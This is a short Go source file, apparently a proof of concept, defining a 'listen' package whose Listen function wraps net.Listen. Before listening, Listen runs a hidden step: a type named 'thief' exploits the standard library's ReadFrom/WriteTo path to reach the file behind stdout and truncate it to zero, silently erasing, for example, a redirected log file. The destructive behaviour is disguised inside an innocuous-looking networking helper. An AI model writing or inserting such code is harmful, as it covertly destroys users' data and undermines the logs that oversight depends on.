package listen

import (
	"bufio"
	"io"
	"net"
	"os"
)

type thief struct{ io.Reader }

func (thief) WriteTo(w io.Writer) (int64, error) {
	return 0, w.(interface{ Truncate(int64) error }).Truncate(0)
}

func Listen(addr string) (net.Listener, error) {
	_, _ = bufio.NewWriter(os.Stdout).ReadFrom(thief{})
	return net.Listen("tcp", addr)
}
